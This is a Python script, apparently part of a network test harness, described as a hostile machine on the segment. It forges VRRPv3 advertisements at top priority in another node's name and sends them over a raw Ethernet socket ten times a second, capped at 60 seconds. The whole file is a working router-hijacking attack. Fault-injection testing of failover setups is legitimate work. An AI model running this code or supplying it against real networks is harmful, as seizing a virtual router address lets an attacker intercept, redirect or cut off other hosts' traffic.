"""A hostile machine on the segment: VRRP of priority 255 in the name of the other node.

Run among the visitors, for a bounded time, ten packets a second.
"""

from __future__ import annotations

import argparse
import socket
import struct
import time
from ipaddress import IPv4Address, ip_interface

from shoestring.system.segment import ip_frame

PERIOD_SECONDS = 0.1
SECONDS_MAX = 60.0
HEAD = struct.Struct("!BBHHHBBH4s4s")


def checksum(data: bytes) -> int:
    """Return the Internet checksum (RFC 1071)."""
    padded = data + b"\0" * (len(data) % 2)
    total: int = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advert(source: IPv4Address, target: IPv4Address, vrid: int, priority: int, vip: str) -> bytes:
    """Return an IPv4 packet with one VRRP advertisement of version 3 (RFC 9568, 5)."""
    address = IPv4Address(vip).packed
    body = struct.pack("!BBBBHH", 0x31, vrid, priority, 1, 10, 0) + address
    pseudo = source.packed + target.packed + struct.pack("!BBH", 0, 112, len(body))
    body = body[:6] + struct.pack("!H", checksum(pseudo + body)) + body[8:]
    words = (0x45, 0xC0, 20 + len(body), 1, 0, 255, 112)
    head = HEAD.pack(*words, 0, source.packed, target.packed)
    return HEAD.pack(*words, checksum(head), source.packed, target.packed) + body


def hardware(text: str) -> bytes:
    """Return a MAC address as bytes."""
    return bytes.fromhex(text.replace(":", ""))


def main() -> None:
    """Send until the time is over."""
    parser = argparse.ArgumentParser(description=__doc__)
    for name in ("--source", "--target", "--vip", "--from-mac", "--to-mac"):
        parser.add_argument(name, required=True)
    parser.add_argument("--vrid", type=int, required=True)
    parser.add_argument("--priority", type=int, default=255)
    parser.add_argument("--seconds", type=float, default=6)
    said = parser.parse_args()
    vip = str(ip_interface(said.vip).ip)
    source, target = IPv4Address(said.source), IPv4Address(said.target)
    packet = advert(source, target, said.vrid, said.priority, vip)
    frame = ip_frame(hardware(said.from_mac), hardware(said.to_mac), packet)
    until = time.monotonic() + min(said.seconds, SECONDS_MAX)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind(("eth0", 0))
        while time.monotonic() < until:
            sock.send(frame)
            time.sleep(PERIOD_SECONDS)


if __name__ == "__main__":
    main()
